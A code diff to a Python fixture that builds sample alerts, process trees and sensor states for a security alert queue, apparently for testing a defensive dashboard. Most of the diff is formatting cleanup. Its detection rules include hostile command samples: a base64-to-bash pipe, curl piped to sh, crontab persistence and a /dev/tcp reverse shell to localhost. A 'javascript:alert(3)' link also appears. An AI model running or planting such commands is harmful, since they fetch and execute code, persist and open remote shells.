@@ -13,7 +13,7 @@ NOW = datetime.now(UTC)
 LEVELS = ("critical", "high", "medium", "low", "informational")
 
 RULES = (
-    ("Giải mã base64 rồi chạy bằng shell", "attack.t1059.004", "bash -c \"echo aWQ7IHdob2FtaQ== | base64 -d | bash\""),
+    ("Giải mã base64 rồi chạy bằng shell", "attack.t1059.004", 'bash -c "echo aWQ7IHdob2FtaQ== | base64 -d | bash"'),
     ("Tải tập lệnh về và chạy thẳng qua ống", "attack.t1105", "curl -fsSL http://127.0.0.1:8099/setup.sh | sh"),
     ("Thêm tác vụ định kỳ bằng crontab", "attack.t1053.003", "crontab -l; echo '*/5 * * * * /tmp/.x/run' | crontab -"),
     ("Reverse shell qua /dev/tcp", "attack.t1059.004", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"),
@@ -47,7 +47,7 @@ def alert(number: int, *, age: timedelta | None = None) -> Json:
     """Make one row of the queue; every fifth has hostile texts."""
     title, tag, command = RULES[number % len(RULES)]
     host = number % len(HOSTS)
-    hostile = HOSTILE[number // 5 % len(HOSTILE)] if number % 5 == 4 else ""  # noqa: PLR2004
+    hostile = HOSTILE[number // 5 % len(HOSTILE)] if number % 5 == 4 else ""
     moment = NOW - (timedelta(minutes=7 * number, seconds=13) if age is None else age)
     return {
         "id": f"{number:032x}",
@@ -78,7 +78,7 @@ def detail(row: Json, notes: list[Json], history: list[Json]) -> Json:
             "id": row["rule"],
             "title": row["title"],
             "level": row["level"],
-            "description": "Một lệnh được giấu bằng base64 rồi giải mã và đưa thẳng cho shell.\nNgười quản trị hiếm khi làm vậy.",
+            "description": "Một lệnh giấu bằng base64 được đưa thẳng cho shell.\nNgười quản trị hiếm khi làm vậy.",
             "tags": row["tags"],
             "falsepositives": ["Trình cài đặt của nhà cung cấp", "Kịch bản triển khai cũ"],
             "references": ["https://attack.mitre.org/techniques/T1059/004/", "javascript:alert(3)"],
@@ -142,14 +142,12 @@ def tree(row: Json) -> list[Json]:
         _node(row, f"c{index}", f"c{index - 1}" if index else None, 1 + index * 411, *each)
         for index, each in enumerate(chain)
     ]
-    crowd = [_node(row, f"x{index}", "c0", 900 + index, "/usr/sbin/cron", "cron -f", False) for index in range(24)]  # noqa: FBT003
-    loop = [_node(row, "l0", "l1", 7001, "/bin/a", "a", False), _node(row, "l1", "l0", 7002, "/bin/b", "b", False)]  # noqa: FBT003
+    crowd = [_node(row, f"x{index}", "c0", 900 + index, "/usr/sbin/cron", "cron -f", False) for index in range(24)]
+    loop = [_node(row, "l0", "l1", 7001, "/bin/a", "a", False), _node(row, "l1", "l0", 7002, "/bin/b", "b", False)]
     return [*nodes, *crowd, *loop]
 
 
-def _node(  # noqa: PLR0913
-    row: Json, entity: str, parent: str | None, pid: int, executable: str, command: str, fired: bool  # noqa: FBT001
-) -> Json:
+def _node(row: Json, entity: str, parent: str | None, pid: int, executable: str, command: str, fired: bool) -> Json:
     return {
         "entity_id": entity, "parent": parent, "pid": pid, "executable": executable, "command_line": command,
         "user": row["user"], "time": row["time"], "alert": fired,
@@ -161,8 +159,18 @@ def hosts() -> list[Json]:
     healthy = _host(0, HOSTS[0], "Debian GNU/Linux 12 (bookworm)")
     blind = _host(1, HOSTS[1], "Ubuntu 24.04.3 LTS")
     blind["sensors"] = [
-        {"capability": "process", "rung": "poll", "state": "blind", "why": "ebpf: libbpf.so.1 is missing; apt install libbpf1"},
-        {"capability": "file", "rung": "", "state": "absent", "why": "fanotify: needs root\nwatch: no folder is listed"},
+        {
+            "capability": "process",
+            "rung": "poll",
+            "state": "blind",
+            "why": "ebpf: libbpf.so.1 is missing; apt install libbpf1",
+        },
+        {
+            "capability": "file",
+            "rung": "",
+            "state": "absent",
+            "why": "fanotify: needs root\nwatch: no folder is listed",
+        },
         {"capability": "network", "rung": "poll", "state": "alive", "why": "ebpf: libbpf.so.1 is missing"},
     ]
     blind["completeness"] = {
